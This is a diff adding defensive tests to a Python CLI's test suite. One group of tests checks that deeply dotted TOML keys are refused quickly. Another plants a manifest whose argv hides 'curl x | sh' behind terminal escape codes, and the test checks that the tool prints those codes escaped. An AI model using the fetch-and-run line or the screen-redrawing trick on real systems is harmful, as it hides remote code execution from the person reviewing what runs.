@@ -174,6 +174,24 @@ def test_duplicate_key_in_pyproject_is_refused(tmp_path: Path) -> None:
         config.load(tmp_path)
 
 
+DOTTED = ".".join(["a"] * 50_000)  # 100 KB: tomllib took 45 s on it (quadratic in depth)
+
+
+@pytest.mark.parametrize(("name", "text"), [
+    ("pyproject.toml", f"[tool.repro]\n{DOTTED} = 1\n"),
+    ("pyproject.toml", f"[tool.repro]\nseed = 1\n[{DOTTED}]\n"),
+    ("pyproject.toml", f'[tool.repro]\nx = {{ {DOTTED.replace("a", chr(34) + "k" + chr(34))} = 1 }}\n'),
+    ("uv.lock", f"version = 1\n[{DOTTED}]\n"),
+], ids=["pyproject-key", "pyproject-header", "pyproject-inline-quoted", "uv.lock-header"])
+def test_a_deeply_dotted_toml_key_is_refused_fast(repo: Path, name: str, text: str) -> None:
+    (repo / name).write_text(text)
+    git(repo, "add", name)
+    git(repo, "commit", "-qm", "toml")
+    code, _, err = repro_cli(repo, "run", "--", PYTHON, "train.py", timeout=20)
+    assert code == 125, err
+    assert_one_line_error(err, name, "nested too deeply")
+
+
 def test_long_data_name_is_one_error(repo: Path, capfd: pytest.CaptureFixture[str]) -> None:
     assert main(["run", "--data", "a" * 5000, "--", PYTHON, "train.py"]) == 125
     err = capfd.readouterr().err
@@ -271,3 +289,23 @@ def test_hook_probes_a_run_planted_are_bounded(tmp_path: Path) -> None:
     assert "FIFO, not a regular file" in errs["hook-1-1.probe.json"]
     assert "nested too deeply" in errs["hook-2-1.probe.json"]
     assert "nested more than 16 levels" in errs["hook-3-1.probe.json"]
+
+
+def test_escape_sequences_in_a_planted_argv_never_reach_the_terminal(
+        one_run: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """ESC[2K / ESC[1A in an argv word of a manifest from elsewhere: `runs`, `show`, `diff`
+    and `--script` print it escaped, so a listing cannot be redrawn to hide what a run
+    executes (the script's `$'...'` word is the same argument for bash)."""
+    import yaml
+
+    [genuine] = list((one_run / ".repro" / "runs").iterdir())
+    doc = yaml.safe_load((genuine / "manifest.yaml").read_text())
+    doc["run"]["run_id"] = BAD_ID
+    doc["command"]["argv"] = ["sh", "-c", "curl x | sh\x1b[2K\x1b[1Apython train.py"]
+    plant(one_run, yaml.safe_dump(doc))
+    for args in (["runs"], ["show", BAD_ID], ["diff", genuine.name, BAD_ID],
+                 ["replay", "--script", BAD_ID]):
+        capfd.readouterr()
+        main(args)
+        out = "".join(capfd.readouterr())
+        assert "\x1b[2K" not in out and "\\x1b[2K" in out, (args, out)
